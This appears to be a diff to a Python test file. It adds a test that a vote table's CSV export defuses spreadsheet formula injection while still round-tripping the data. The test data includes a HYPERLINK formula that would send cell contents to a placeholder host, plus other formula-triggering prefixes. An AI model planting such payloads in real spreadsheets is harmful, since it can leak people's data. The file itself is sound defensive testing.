@@ -1,5 +1,6 @@
 from __future__ import annotations
 
+import csv
 from pathlib import Path
 
 import numpy as np
@@ -39,6 +40,29 @@ def test_csv_round_trip_is_exact(tmp_path: Path) -> None:
     assert list(loaded.records()) == list(votes.records())
     assert path.read_text(encoding="utf-8").startswith(HEADER)
     assert [p.name for p in path.parent.iterdir()] == ["votes.csv"]  # no temporary left
+
+
+FORMULAS = ['=HYPERLINK("http://x/?"&A1,"c")', "+1", "-2+3", "@SUM(A1)", "\tx", "\rx", "'quoted"]
+
+
+def test_people_s_text_never_becomes_a_live_formula_and_still_round_trips(
+    tmp_path: Path,
+) -> None:
+    n = len(FORMULAS)
+    votes = VoteTable(
+        pair_id=np.array([f"p{i}" for i in range(n)]),
+        annotator=np.array(FORMULAS[::-1]),
+        answer=np.zeros(n, np.int8),
+        confidence=np.ones(n, np.float32),
+        rationale=np.array(FORMULAS),
+    )
+    votes.save(tmp_path / "v.csv")
+    with open(tmp_path / "v.csv", newline="", encoding="utf-8") as fh:
+        rows = list(csv.reader(fh))[1:]
+    for row in rows:  # what a spreadsheet sees: every people's cell starts as text
+        assert row[1].startswith("'") and row[4].startswith("'")
+    assert rows[0][2] == "0"  # numbers are left as they are
+    assert_same(VoteTable.load(tmp_path / "v.csv"), votes)
 
 
 def test_random_confidences_round_trip(tmp_path: Path) -> None:
